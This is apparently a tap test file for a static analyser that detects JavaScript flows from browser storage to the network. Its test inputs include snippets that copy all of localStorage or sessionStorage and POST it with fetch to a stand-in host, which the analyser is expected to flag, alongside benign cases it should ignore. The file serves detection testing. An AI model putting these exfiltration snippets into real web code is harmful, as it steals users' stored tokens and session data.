import t from 'tap'
import { summariseJavascript } from '../../src/analysis/javascript/summarise.ts'

function flowsOf(code: string): string[] {
  const { flows } = summariseJavascript('a.js', code)
  return [...new Set(flows.map(({ source, sink }) => `${source.kind} -> ${sink.kind}`))]
}

const SENDS = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(all) })`

t.test('all that a page keeps is a secret, and one key of it is not', (t) => {
  for (const [code, flows] of [
    [`const all = localStorage; ${SENDS}`, ['secret-file -> network']],
    [`const all = window.sessionStorage; ${SENDS}`, ['secret-file -> network']],
    [`const all = { ...localStorage }; ${SENDS}`, ['secret-file -> network']],
    [`const all = Object.entries(localStorage); ${SENDS}`, ['secret-file -> network']],
    [`const all = Object.values(localStorage); ${SENDS}`, ['secret-file -> network']],
    [`const all = Object.assign({}, globalThis.localStorage); ${SENDS}`, ['secret-file -> network']],
    [`const all = localStorage.getItem('theme'); ${SENDS}`, []],
    [`const all = Object.keys({ theme: 1 }); localStorage.setItem('a', all); ${SENDS}`, []],
    [`const localStorage = { a: 1 }; const all = { ...localStorage }; ${SENDS}`, []],
    [`const all = Object.entries(localStorage); console.log(all)`, []],
  ] as const)
    t.same(flowsOf(code), flows, code)
  t.end()
})
